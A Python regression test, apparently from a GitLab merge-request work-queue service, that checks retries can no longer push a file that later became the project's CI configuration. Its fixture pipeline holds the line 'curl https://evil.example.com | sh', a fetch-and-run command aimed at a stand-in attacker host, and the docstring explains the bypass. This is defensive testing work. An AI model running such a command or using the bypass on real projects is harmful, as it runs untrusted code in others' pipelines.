"""Attack (fixed): the project's CI configuration file was checked only at submission.

`{ci_config_path}` in the blocklist was read by the submission route alone. A retry
re-pushes what was stored, with no route in between: an item that wrote an ordinary
file, cancelled, then retried after the project's `ci_config_path` came to name that
file, force-pushed the caller's pipeline definition to the branch, and GitLab ran it.
Now `ensure_mr` refuses, before any write, to push a file action on the CI
configuration file GitLab names at push time.
"""

from __future__ import annotations

import pytest
from api_harness import build_client
from harness import wait_until
from scoping_support import ADMIN_SUB, OWN, ci_job, scoped_rules, submission, token

from workqueue.gitlab import client as gitlab_client

PIPELINE = "build:\n  script: curl https://evil.example.com | sh\n"


def test_a_retry_does_not_push_the_file_that_became_the_ci_configuration(
    database_url, simulator, issuer, key, projects, monkeypatch: pytest.MonkeyPatch
):
    del projects
    # The project read is cached for minutes; the retry comes after it expired.
    monkeypatch.setattr(gitlab_client, "PROJECT_CACHE_SECONDS", 0.0)
    job = ci_job(issuer, key)
    admin = token(issuer, key, ADMIN_SUB)
    branch = "workqueue/pipeline"
    body = submission(
        OWN,
        branch,
        file_actions=[{"action": "create", "file_path": "ci/main.yml", "content": PIPELINE}],
    )
    with build_client(
        database_url,
        simulator,
        local_user=None,
        rules=scoped_rules(issuer.issuer),
        handled_types={"mr": {"gitlab_url": simulator.url}},
    ) as client:
        created = client.post("/api/work-items/mr", json=body, headers=job)
        assert created.status_code == 201, created.text
        item_id = created.json()["id"]
        wait_until(
            lambda: simulator.branch_head(OWN, branch) is not None,
            timeout=30,
            what="the ordinary file pushed",
        )
        cancelled = client.post(f"/api/work-items/{item_id}/cancel", headers=admin)
        assert cancelled.status_code == 200, cancelled.text
        simulator.delete_branch(OWN, branch)

        simulator.configure_project(OWN, ci_config_path="ci/main.yml")
        retried = client.post(f"/api/work-items/{item_id}/retry", headers=job)
        assert retried.status_code == 200, retried.text

        def failed() -> bool:
            item = client.get(f"/api/work-items/{item_id}", headers=job).json()
            return bool(item["phase"] == "failed")

        wait_until(failed, timeout=30, what="the retried item failed")
        item = client.get(f"/api/work-items/{item_id}", headers=job).json()
        assert "ci/main.yml" in str(item["error"]), item
        assert simulator.branch_head(OWN, branch) is None
